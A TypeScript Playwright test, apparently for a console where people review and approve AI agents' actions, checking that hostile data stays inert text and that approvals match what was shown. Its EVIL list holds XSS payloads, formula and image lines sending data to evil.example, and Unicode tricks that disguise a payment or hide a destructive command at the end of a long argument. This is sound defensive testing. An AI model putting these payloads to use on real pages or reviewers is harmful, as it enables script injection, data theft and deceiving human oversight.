import type { Page } from 'playwright-core'
import type { Json } from './support/api.ts'
import { text, tree } from './support/api.ts'
import { seen, settled, show } from './support/browser.ts'
import type { Check } from './support/check.ts'
import { elseOf } from './stamp.ts'
import { approval, ask } from './support/data.ts'
import type { House, World } from './support/house.ts'
import type { Report } from './support/report.ts'

const LONG = 30_000
const RIGHT_TO_LEFT = '\u202e'
const NO_WIDTH = '\u200b'

/** Text that tries to be more than text. */
const EVIL: readonly string[] = [
  '<script>window.owned = 1</script>',
  '<img src=x onerror="window.owned = 2">',
  '<svg onload="window.owned = 3"><a href="javascript:window.owned = 4">click</a></svg>',
  '"><iframe srcdoc="<script>parent.owned = 5</script>"></iframe>',
  '[see](javascript:window.owned=6) ![x](http://evil.example/pixel.png?secret)',
  '<style>main { display: none }</style><link rel=stylesheet href=http://evil.example/x.css>',
  '<form action=http://evil.example/><button>Accept</button></form>',
  '{{constructor.constructor("window.owned = 7")()}} ${window.owned = 8}',
  '```mermaid\ngraph TD; a[<img src=x onerror="window.owned=9">]\n```',
  '\u001b[2J\u001b[31mgone\u0007',
  '=HYPERLINK("http://evil.example/?"&A1)',
  'data:text/html,<script>window.owned=10</script>',
]
/** Characters that nobody sees, or that turn what is seen around. */
const UNSEEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u
const HIDDEN = `pay${RIGHT_TO_LEFT}000,1${NO_WIDTH} to\u2066 mallory\u2069\u{e0041}`

/** What agents and outsiders write stays text, all of it is seen, and what is agreed to is what is shown (S16, S26). */
export const hostile: Check = {
  number: 'S16',
  name: 'hostile',
  title: 'Data that tries to be markup, script, unseen or a button (S16, S26)',
  quick: true,
  limitS: 240,
  async run(world, report) {
    const house = await world.demo()
    const data: Json = {
      said: [...EVIL], turned: HIDDEN, '<b>name</b>': 'of a field', [`key${RIGHT_TO_LEFT}yek`]: 'turned',
      nested: { deep: { deeper: { more: { evenMore: { most: { end: 'the-very-end' } } } } } },
    }
    const question = `${EVIL[0]}${EVIL[1]} ${HIDDEN}`
    const { run, task } = await ask(house, 'low', { show: data, question })
    const page = await world.page(house)
    const paths = [`/inbox/${task}`, `/tasks/${task}`, '/inbox', `/runs/${run}`, '/runs', '/overview']
    await untouched(page, house, paths, report)
    await allShown(page, house, task, data, report)
    await page.context().close()
    await approved(world, house, report)
  },
}

async function untouched(page: Page, house: House, paths: readonly string[], report: Report) {
  const wrong: string[] = []
  for (const path of paths) {
    await show(page, house.address, path)
    await openAll(page)
    const found = await page.evaluate(() => {
      const all: string[] = []
      const owned = (window as unknown as { owned?: unknown }).owned
      if (owned !== undefined) all.push(`a script ran: ${String(owned)}`)
      const bad = 'iframe, object, embed, main style, main script, main link, img:not([src^="/"]), a[href^="javascript"], a[href*="evil"], form:not([action^="/"])[action]'
      for (const element of document.querySelectorAll(bad)) all.push(`an element came to be: ${element.outerHTML.slice(0, 100)}`)
      for (const element of document.querySelectorAll('main *')) {
        for (const attribute of element.attributes) if (attribute.name.startsWith('on')) all.push(`a handler came to be: ${attribute.name}`)
      }
      return all
    })
    const shown = await page.evaluate(() => document.body.innerText)
    const unseen = UNSEEN.exec(shown)
    if (unseen) found.push(`shows U+${unseen[0].codePointAt(0)?.toString(16)} as it is, near "${shown.slice(Math.max(0, unseen.index - 40), unseen.index)}"`)
    wrong.push(...found.map((each) => `${path}: ${each}`))
  }
  const { violations, elsewhere, dialogs, errors } = seen(page.context())
  report.none('data that became more than text', wrong)
  report.none('scripts, requests and dialogs that it caused', [...violations, ...elsewhere, ...dialogs, ...errors])
}

/** Opens everything that is folded. */
export async function openAll(page: Page) {
  await page.evaluate(() => { for (const each of document.querySelectorAll('main details')) (each as HTMLDetailsElement).open = true })
  await settled(page)
}

/** Every word of what is shown to who decides can be read on the page. */
async function allShown(page: Page, house: House, task: string, data: Json, report: Report) {
  await show(page, house.address, `/tasks/${task}`)
  await openAll(page)
  const shown = squeezed(await page.evaluate(() => document.body.innerText))
  const lacks = leaves(data).filter((leaf) => !shown.includes(squeezed(visible(leaf))) && !shown.includes(squeezed(escaped(leaf))))
  report.none('values that the page leaves out', lacks.map((leaf) => JSON.stringify(leaf.slice(0, 80))))
  const buttons = await page.getByRole('button', { name: /^Accept/ }).count()
  report.figure('buttons that say Accept', '1', buttons, buttons === 1)
}

function leaves(data: Json): string[] {
  if (Array.isArray(data)) return data.flatMap(leaves)
  if (typeof data === 'object' && data !== null) return Object.entries(data).flatMap(([name, value]) => [name, ...leaves(value)])
  return [String(data)]
}

export function squeezed(shown: string): string {
  return shown.replaceAll(/\s+/g, ' ').trim()
}

/** As the console writes what is unseen in text. */
export function visible(value: string): string {
  return [...value].map((char) => (UNSEEN.test(char) ? `[U+${(char.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}]` : char)).join('')
}

/** As the console writes it in JSON. */
function escaped(value: string): string {
  const inner = JSON.stringify(value).slice(1, -1)
  return [...inner].map((char) => (UNSEEN.test(char) ? [...char].map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('') : char)).join('')
}

/** A call whose arguments go on and on, with what matters at their end. */
async function approved(world: World, house: House, report: Report) {
  const end = 'delete-everything-at-the-end'
  const { task } = await approval(house, `read ${'x'.repeat(LONG)} ${NO_WIDTH}${end}`, 9000)
  const whole = await house.ana.get(`/tasks/${task}`)
  const page = await world.page(house)
  await show(page, house.address, `/tasks/${task}`)
  const body = await page.evaluate(() => document.body.innerText)
  report.figure('the end of a long argument is on the page', 'yes', body.includes(end) ? 'yes' : 'no', body.includes(end))
  const clipped = await page.evaluate((what) => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (!node.textContent?.includes(what)) continue
      for (let at = node.parentElement; at; at = at.parentElement) {
        const style = getComputedStyle(at)
        const over = at.scrollWidth > at.clientWidth + 1 || at.scrollHeight > at.clientHeight + 1
        if (over && [style.overflowX, style.overflowY].includes('hidden') && !['auto', 'scroll'].includes(style.overflowY)) return `cut by ${at.className || at.tagName}`
      }
      return ''
    }
    return 'not there'
  }, end)
  report.none('what hides the end of it', clipped ? [clipped] : [])
  const call = tree(tree(whole.brief).call)
  const digest = text(call.digest) || text(whole.digest)
  const told = (await page.evaluate(() => document.body.outerHTML)).includes(digest)
  report.figure('the digest of the call is told', 'yes', told ? 'yes' : 'no', told)
  const sneaked = await house.ana.call('POST', `/tasks/${task}/decide`, { answer: 'approve', why: 'x', digest: elseOf(text(whole.digest)) })
  report.figure('an approval of something else', '409', sneaked.status, sneaked.status === 409)
  await page.context().close()
}
